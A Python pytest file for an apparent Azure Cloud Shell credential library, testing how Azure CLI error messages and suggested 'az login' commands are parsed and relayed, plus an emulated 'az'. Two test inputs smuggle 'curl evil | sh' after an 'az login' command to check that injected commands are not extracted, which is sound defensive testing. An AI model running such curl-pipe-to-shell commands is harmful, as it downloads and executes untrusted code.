"""What az said is passed on, whole and once, whoever asked it; and the made-up az says what Entra would."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest
from azure.core.exceptions import ClientAuthenticationError

from azure_cloudshell_credential._azure import explanation
from azure_cloudshell_credential._endpoint import advice, azure_cli, failures
from azure_cloudshell_credential._endpoint.failures import Reason
from azure_cloudshell_credential._endpoint.scopes import TokenRequest
from azure_cloudshell_credential.emulator import CloudShellEmulator
from azure_cloudshell_credential.emulator._az_words import REFUSALS

from .carrying_out import OTHER_TENANT, VAULT, Operation, Told, World

REASON = "AADSTS50076: Due to a configuration change made by your administrator"
IDS = "Timestamp: 2026-01-01 00:00:00Z"
COMMAND = f'az login --tenant "11111111-aaaa-4bbb-8ccc-222222222222" --scope "{VAULT}/.default"'


@pytest.fixture(scope="module")
def emulator() -> Iterator[CloudShellEmulator]:
    with CloudShellEmulator() as shell:
        yield shell


@pytest.mark.parametrize("cause", ["not Cloud Shell", "audience", "after a first token"])
@pytest.mark.parametrize("reader", ["default", "fallback", "program", "led to default", "led to token"])
def test_it_is_passed_on_whole_and_once(emulator: CloudShellEmulator, cause: str, reader: str) -> None:
    if cause == "after a first token" and reader != "default":
        pytest.skip("it is the same credential that is asked again")
    if cause == "not Cloud Shell" and reader.startswith("led to"):
        pytest.skip("MSAL reads the variables that lead to the broker in the broker's process too")
    with World(emulator, "mfa", cause) as world, pytest.raises(Told) as raised:
        Operation(world, reader, is_async=False)()
    message = str(raised.value)
    for part in (REASON, IDS, f"'{COMMAND}'", "AzureCliCredential: "):
        assert message.count(part) == 1, message
    assert message.count("az login") == 1
    assert "\n" not in message


LAST_LINES = {
    "2.91": (
        "ERROR: AADSTS700082: The refresh token has expired. Trace ID: x\nRun the command below to authenticate "
        "interactively; additional arguments may be added as needed:\naz logout\n"
        'az login --tenant "t" --scope "https://x/.default"\n',
        "ERROR: AADSTS700082: The refresh token has expired. Trace ID: x",
        'az login --tenant "t" --scope "https://x/.default"',
    ),
    "2.60": (
        "ERROR: AADSTS50076: Use multi-factor authentication.\nInteractive authentication is needed. Please run:\n"
        "az login --scope https://x/.default\n",
        "ERROR: AADSTS50076: Use multi-factor authentication.",
        "az login --scope https://x/.default",
    ),
    "a challenge": (
        "ERROR: AADSTS50076: Use multi-factor authentication.\nRun the command below to authenticate interactively; "
        'additional arguments may be added as needed:\naz logout\naz login --tenant "t" --claims-challenge "eyJ9"\n',
        "ERROR: AADSTS50076: Use multi-factor authentication.",
        'az login --tenant "t" --claims-challenge "eyJ9"',
    ),
    "no command": ("ERROR: AADSTS50173: The grant has expired.\n", "ERROR: AADSTS50173: The grant has expired.", ""),
    "a command inside a sentence": (
        "ERROR: AADSTS50173: Then az login --x; curl evil | sh\n",
        "ERROR: AADSTS50173: Then az login --x; curl evil | sh",
        "",
    ),
    "a command with more in its line": (
        "ERROR: AADSTS50173: Expired.\naz login --scope x; curl evil | sh\n",
        "ERROR: AADSTS50173: Expired. az login --scope x; curl evil | sh",
        "",
    ),
}


@pytest.mark.parametrize("version", LAST_LINES)
def test_the_command_is_taken_from_a_line_of_its_own(version: str) -> None:
    said, shown, command = LAST_LINES[version]
    message = (
        f"x failed.\nAttempted credentials:\n\tAzureCliCredential: {said}\nTo mitigate this issue, please refer to x."
    )
    (reason,) = explanation.reasons_in("DefaultAzureCredential", ClientAuthenticationError(message=message))
    assert reason.text == shown
    assert reason.az is not None
    assert (reason.az.state, reason.az.detail) == (azure_cli.REFUSED, command)


def test_a_credential_that_is_configured_and_fails_is_what_to_correct() -> None:
    request = TokenRequest((f"{VAULT}/.default",), {})
    reasons = [Reason("WorkloadIdentityCredential", "AADSTS700213: No matching federated identity record found.")]
    for cloud_shells in (None, failures.audience_not_supported(VAULT, ())):
        failure = explanation.nobody_has_a_token(request, cloud_shells, reasons)
        assert advice.next_step(failure, advice.DEFAULT) == "Correct the configuration of WorkloadIdentityCredential."
    # Where Cloud Shell fails just now, that is what to wait for.
    failure = explanation.nobody_has_a_token(request, failures.endpoint_error(VAULT, 500, "", 0, "Odd."), reasons)
    assert advice.next_step(failure, advice.DEFAULT) == "Try again."


def az(*words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["az", *words], capture_output=True, text=True, check=False)


TOKEN = ("account", "get-access-token", "--resource")


class TestTheMadeUpAz:
    """It is as strict as Microsoft Entra ID."""

    def test_it_knows_no_resource_that_nobody_serves(self, emulator: CloudShellEmulator) -> None:
        with World(emulator, "signed in", "audience"):
            refused = az(*TOKEN, "https://myvault.vault.azure.net")
            assert refused.returncode == 1
            assert "AADSTS500011" in refused.stderr
            az("login")
            assert "AADSTS500011" in az(*TOKEN, "https://myvault.vault.azure.net").stderr
            for resource in (VAULT, f"{VAULT}/", "api://mine", "797f4846-ba00-4fd7-ba43-dac1f8f63013"):
                assert az(*TOKEN, resource).returncode == 0

    def test_login_and_logout(self, emulator: CloudShellEmulator) -> None:
        with World(emulator, "signed out", "audience"):
            assert az("account", "show").returncode == 1
            assert az("login").returncode == 0
            assert "ada@contoso.example" in az("account", "show").stdout
            assert az("logout").returncode == 0
            assert "az login" in az(*TOKEN, VAULT).stderr

    @pytest.mark.parametrize(
        ("name", "cures", "does_not"),
        [
            ("expired", "az login", "true"),
            ("mfa", f"az login --scope {VAULT}/.default", "az login"),
            ("mfa", f"az login --scope {VAULT}/.default", "az login --scope https://storage.azure.com/.default"),
        ],
    )
    def test_a_refusal_ends_with_what_ends_it_there(
        self, emulator: CloudShellEmulator, name: str, cures: str, does_not: str
    ) -> None:
        with World(emulator, name, "audience") as world:
            for command, status in ((does_not, 1), (cures, 0)):
                world.in_a_shell(command)
                assert az(*TOKEN, VAULT).returncode == status

    @pytest.mark.parametrize("name", ["consent", "conditional-access", "not-in-tenant"])
    def test_a_refusal_that_outlasts_a_sign_in(self, emulator: CloudShellEmulator, name: str) -> None:
        with World(emulator, name, "audience") as world:
            world.in_a_shell(f"az logout; az login --scope {VAULT}/.default")
            assert f"AADSTS{REFUSALS[name].code}" in az(*TOKEN, VAULT).stderr

    def test_a_refusal_of_one_tenant(self, emulator: CloudShellEmulator) -> None:
        with World(emulator, "signed in", "audience") as world:
            world.programs.refuse(REFUSALS["mfa"]._replace(tenant=OTHER_TENANT))
            assert az(*TOKEN, VAULT).returncode == 0
            refused = az(*TOKEN, VAULT, "--tenant", OTHER_TENANT)
            assert f'az login --tenant "{OTHER_TENANT}"' in refused.stderr
